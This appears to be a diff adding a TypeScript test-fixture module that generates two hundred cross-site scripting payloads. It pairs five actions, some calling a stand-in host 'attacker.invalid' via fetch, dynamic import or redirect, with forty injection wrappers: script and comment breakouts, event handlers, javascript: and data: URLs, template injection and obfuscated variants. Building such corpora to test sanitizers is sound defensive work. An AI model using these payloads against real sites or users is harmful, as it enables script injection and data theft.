@@ -1,0 +1,55 @@
+/** What a payload tries to run: it would show as a dialog, a request or a variable. */
+const deeds = [
+  'window.ran=1',
+  'alert(1)',
+  "fetch('http://attacker.invalid/')",
+  "import('http://attacker.invalid/a.js')",
+  "location='http://attacker.invalid/'",
+];
+
+/** Ways out of text, attributes, scripts, styles, addresses, comments and templates. */
+const exits: readonly ((deed: string) => string)[] = [
+  (deed) => `<script>${deed}</script>`,
+  (deed) => `</script><script>${deed}</script>`,
+  (deed) => `</SCRIPT ><ScRiPt>${deed}//`,
+  (deed) => `<!--<script>${deed}</script>-->`,
+  (deed) => `--><script>${deed}</script><!--`,
+  (deed) => `<img src=x onerror="${deed}">`,
+  (deed) => `"><img src=x onerror=${deed}>`,
+  (deed) => `' onmouseover='${deed}' x='`,
+  (deed) => `" autofocus onfocus="${deed}" x="`,
+  (deed) => `<svg onload=${deed}>`,
+  (deed) => `<svg><animate onbegin=${deed} attributeName=x dur=1s>`,
+  (deed) => `<svg><a xlink:href="javascript:${deed}"><text>x</text></a></svg>`,
+  (deed) => `<math><mi xlink:href="data:text/html,<script>${deed}</script>">`,
+  (deed) => `<iframe srcdoc="<script>parent.${deed}</script>"></iframe>`,
+  (deed) => `<iframe src="javascript:${deed}"></iframe>`,
+  (deed) => `<details open ontoggle=${deed}>`,
+  (deed) => `<video><source onerror=${deed}></video>`,
+  (deed) => `<body onload=${deed}>`,
+  (deed) => `<link rel=stylesheet href="http://attacker.invalid/s.css" onload=${deed}>`,
+  (deed) => `<style>@import 'http://attacker.invalid/${deed.length}.css';</style>`,
+  (deed) => `</style><script>${deed}</script>`,
+  (deed) => `<base href="http://attacker.invalid/${deed.length}/">`,
+  (deed) => `<meta http-equiv=refresh content="0;url=javascript:${deed}">`,
+  (deed) => `<form action="javascript:${deed}"><button autofocus>x</button></form>`,
+  (deed) => `<object data="data:text/html,<script>${deed}</script>"></object>`,
+  (deed) => `<embed src="javascript:${deed}">`,
+  (deed) => `javascript:${deed}`,
+  (deed) => `JaVaScRiPt:${deed}//http://a.invalid`,
+  (deed) => `\u0001javascript:${deed}`,
+  (deed) => `data:text/html,<script>${deed}</script>`,
+  (deed) => `vbscript:${deed}`,
+  (deed) => `</title><script>${deed}</script>`,
+  (deed) => `</textarea><script>${deed}</script>`,
+  (deed) => `{{constructor.constructor('${deed.replaceAll("'", '"')}')()}}`,
+  (deed) => `\${${deed}}`,
+  (deed) => `\u202e<script>${deed}</script>\u2066`,
+  (deed) => `<scr\u0000ipt>${deed}</scr\u0000ipt>`,
+  (deed) => `&lt;script&gt;${deed}&lt;/script&gt;`,
+  (deed) => `<noscript><p title="</noscript><img src=x onerror=${deed}>">`,
+  (deed) => `__proto__"><img src=x onerror=${deed}>`,
+];
+
+/** Two hundred hostile texts. */
+export const payloads: readonly string[] = exits.flatMap((exit) => deeds.map(exit));
